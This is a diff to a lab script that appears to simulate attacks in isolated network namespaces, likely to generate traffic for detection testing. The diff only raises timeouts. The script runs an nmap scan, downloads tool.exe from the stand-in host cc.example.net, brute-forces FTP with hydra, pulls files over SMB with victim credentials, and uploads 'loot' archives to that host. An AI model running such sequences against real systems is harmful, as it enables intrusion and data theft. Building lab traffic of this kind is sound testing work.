@@ -8,14 +8,14 @@ user=victim01
 fact() { echo "$1=$2" >>"$OUT/facts"; }
 
 port_scan() {
-    timeout 60 ip netns exec cl1 nmap -n -Pn -sS -oX "$W/nmap.xml" -p "$ports" 10.20.0.10 >/dev/null
+    timeout 120 ip netns exec cl1 nmap -n -Pn -sS -oX "$W/nmap.xml" -p "$ports" 10.20.0.10 >/dev/null
     fact scan_ports "$(sed -n 's/.*<scaninfo.*numservices="\([0-9]*\)".*/\1/p' "$W/nmap.xml")"
     fact scan_open "$(grep -o '<state state="open"' "$W/nmap.xml" | wc -l)"
 }
 
 # NS SCHEME
 tool_download() {
-    fact "tool_$2" "$(timeout 30 ip netns exec "$1" curl -k -s -o "$W/got.exe" \
+    fact "tool_$2" "$(timeout 120 ip netns exec "$1" curl -k -s -o "$W/got.exe" \
         -w '%{size_download}' "$2://cc.example.net/tool.exe")"
 }
 
@@ -32,7 +32,7 @@ ftp_guessing() {
     local i
     make_pairs
     for i in $(seq "$ftp_runs"); do
-        (cd "$W" && timeout 120 ip netns exec cl3 hydra -I -q -t 64 -C pairs ftp://10.20.0.10 \
+        (cd "$W" && timeout 300 ip netns exec cl3 hydra -I -q -t 64 -C pairs ftp://10.20.0.10 \
             >"$W/hydra.$i" 2>&1) || true
     done
     fact ftp_runs "$ftp_runs"
@@ -73,7 +73,7 @@ theft() {
     shape cl5 "$bulk_rate"
     before=$(carried cl5 rx)
     for n in $(seq 0 "$pulls"); do
-        timeout 60 ip netns exec cl5 smbclient --option='netbios name=CL5' "$share" \
+        timeout 180 ip netns exec cl5 smbclient --option='netbios name=CL5' "$share" \
             -U "$user%$password" -c "get designs$n.bin /dev/null" >/dev/null 2>&1 ||
             fail "the pull of designs$n.bin failed"
     done
@@ -83,7 +83,7 @@ theft() {
     size=0
     for n in $pushes; do
         truncate -s "$n" "$W/loot$n.zip"
-        timeout 60 ip netns exec cl5 curl -sk -o "$W/answer" -X PROPFIND -H 'Depth: 0' \
+        timeout 180 ip netns exec cl5 curl -sk -o "$W/answer" -X PROPFIND -H 'Depth: 0' \
             https://cc.example.net/upload/ --next -sk -o "$W/answer" -T "$W/loot$n.zip" \
             https://cc.example.net/upload/ || fail "the push of $n bytes failed"
         size=$((size + $(stat -c %s "$W/www/upload/loot$n.zip")))
@@ -116,6 +116,6 @@ quiet_day() {
     for host in $quiet $beaconers; do
         number=$((number + 1))
         echo "${host%%:*} $number ${host#*:} $1/$number"
-    done | timeout 150 xargs -L 1 -P 4 sh -c \
+    done | timeout 300 xargs -L 1 -P 4 sh -c \
         'exec ip netns exec "$1" '"'$here/quiet.py'"' day "$2" "$3" "$4"' day
 }
